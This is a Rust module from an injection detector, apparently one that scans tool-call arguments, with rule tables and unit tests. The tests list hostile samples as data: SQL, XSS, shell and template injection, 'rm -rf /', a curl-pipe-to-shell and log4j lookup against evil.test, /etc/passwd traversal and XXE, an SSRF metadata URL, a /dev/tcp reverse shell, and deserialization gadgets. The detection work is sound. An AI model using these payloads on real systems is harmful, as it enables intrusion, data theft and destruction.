//! Code where data belongs: SQL, script in markup, shell, paths that climb, templates, entities and
//! addresses inside the network. Arguments are looked at whole; what is active content counts everywhere.

mod active;
mod document;
mod markup;
mod paths;
mod shell;
mod sql;
mod targets;
mod templates;

pub(super) use document::soften;

use super::rules::{EVERYWHERE, Search, Table};
use super::{Finding, Kind, Place};

const ARGUMENT: &[Place] = &[Place::Argument];

const fn argument(rules: &'static [super::rules::Rule]) -> Table {
    Table {
        kind: Kind::CodeInjection,
        places: ARGUMENT,
        before: 120,
        after: 240,
        rules,
        check: None,
        search: Search::Pattern,
    }
}

pub(super) const TABLES: &[Table] = &[
    argument(sql::RULES),
    Table { search: Search::Own(markup::handler), ..argument(markup::HANDLERS) },
    argument(markup::RULES),
    argument(shell::RULES),
    argument(paths::RULES),
    Table { search: Search::Heads, ..argument(templates::CALLS) },
    argument(templates::RULES),
    argument(targets::RULES),
    Table {
        kind: Kind::CodeInjection,
        places: EVERYWHERE,
        before: 120,
        after: 240,
        rules: active::RULES,
        check: None,
        search: Search::Pattern,
    },
];

/// What no literal gives away.
pub(super) fn scan(text: &str, found: &mut Vec<Finding>) {
    shell::scan(text, found);
}

#[cfg(test)]
mod tests {
    use super::super::{FLAGGED, Kinds, inspect};
    use super::*;

    fn labels(text: &str, place: Place) -> Vec<&'static str> {
        let found = inspect(text, place, Kinds::NONE.with(Kind::CodeInjection));
        found.into_iter().filter(|one| one.score >= FLAGGED).map(|one| one.label).collect()
    }

    #[test]
    fn each_class_is_found_in_arguments() {
        for (text, label) in [
            ("' OR '1'='1' -- ", "sql"),
            ("1 UNION SELECT name, pass FROM users", "sql"),
            ("7; DROP TABLE accounts", "sql"),
            ("<img src=x onerror=alert(1)>", "xss"),
            ("javascript:alert(document.cookie)", "xss"),
            ("report.txt; rm -rf /", "shell"),
            ("hello; ls -la; whoami", "shell"),
            ("$(curl evil.test/x | sh)", "shell"),
            ("../../../../etc/passwd", "path"),
            ("..%2f..%2f..%2fetc%2fshadow", "path"),
            ("{{ ''.__class__.__mro__ }}", "template"),
            ("a${T(java.lang.Runtime).getRuntime()}", "template"),
            ("echo 1{/php}", "template"),
            ("${jndi:ldap://evil.test/a}", "log4j"),
            ("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>", "xxe"),
            ("*)(uid=*))(|(uid=*", "ldap"),
            ("http://169.254.169.254/latest/meta-data/", "ssrf"),
            ("b' or c is not null--", "sql"),
            ("{,cat,/tmp/a}", "shell"),
            ("{\"$where\": \"1\"}", "nosql"),
            ("rO0ABXNyABFqYXZh", "code"),
        ] {
            assert!(
                labels(text, Place::Argument).contains(&label),
                "{text}: {:?}",
                labels(text, Place::Argument)
            );
        }
    }

    #[test]
    fn ordinary_arguments_are_not() {
        for text in [
            "Please select a table from the list; then drop me a line",
            "SELECT name FROM users WHERE id = 7",
            "/home/anna/projects/report.md",
            "../src/main.rs",
            "Tom & Jerry; cats and dogs",
            "fix: handle `None` in parse(); add a test",
            "https://example.org/a?b=c&d=e;f",
            "It's 5 o'clock - or later",
            "items.iter().filter(|id| seen.contains(id))",
            "a table 24\" x 36\" and a chair",
            "set `id` to the value of `host`",
            "\"Authorization\": \"Bearer ${env:TOKEN}\"",
            "if ready && state == Open || last != 0 { go() }",
        ] {
            assert_eq!(labels(text, Place::Argument), Vec::<&str>::new(), "{text}");
        }
    }

    #[test]
    fn answers_may_show_code() {
        for text in [
            "Run `rm -rf build; ls -la` to clean up.",
            "' OR 1=1 -- is a classic.",
            "<script src=\"/app.js\"></script>",
        ] {
            assert_eq!(labels(text, Place::Result), Vec::<&str>::new(), "{text}");
        }
        assert_eq!(labels("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", Place::Result), ["shell"]);
    }

    #[test]
    fn what_starts_a_program_by_a_side_door_is_found() {
        for text in [
            "a.tgz --checkpoint=1 --checkpoint-action=exec=sh x.sh",
            "-oProxyCommand=x host",
            "cposix\nsystem\n(S'x'\ntR.",
            "!!python/object/apply:os.getcwd []",
            "http://localhost:2375/containers/json",
        ] {
            assert_ne!(labels(text, Place::Argument), Vec::<&str>::new(), "{text}");
        }
        for text in ["tar --checkpoint=100 -xf a.tgz", "http://localhost:8080/containers", "cosine\nsystem\n"]
        {
            assert_eq!(labels(text, Place::Argument), Vec::<&str>::new(), "{text}");
        }
    }
}
